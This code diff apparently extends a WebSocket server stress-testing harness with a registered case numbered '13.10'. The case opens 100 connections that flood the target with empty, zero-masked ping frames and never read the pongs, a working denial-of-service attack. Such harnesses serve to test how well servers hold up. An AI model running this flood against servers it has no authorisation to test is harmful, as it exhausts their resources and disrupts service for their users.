@@ -156,3 +156,21 @@ async def messages_in_part(run: Attack) -> None:
             websocket.close()
 
     await again(run, 100, talk)
+
+
+@attack("tiny-frames", "13.10")
+async def tiny_frames(run: Attack) -> None:
+    """100 WebSockets that send pings of no byte without pause, without a key, and read no pong."""
+    pings = b"\x89\x80\0\0\0\0" * 10_000
+
+    async def talk() -> None:
+        websocket = await WebSocket.open(run.target, key=False, compresses=False)
+        try:
+            while run.goes_on and not websocket.writer.is_closing():
+                websocket.writer.write(pings)
+                run.answers["sent 10,000"] += 1
+                await websocket.writer.drain()
+        finally:
+            websocket.close()
+
+    await again(run, 100, talk)
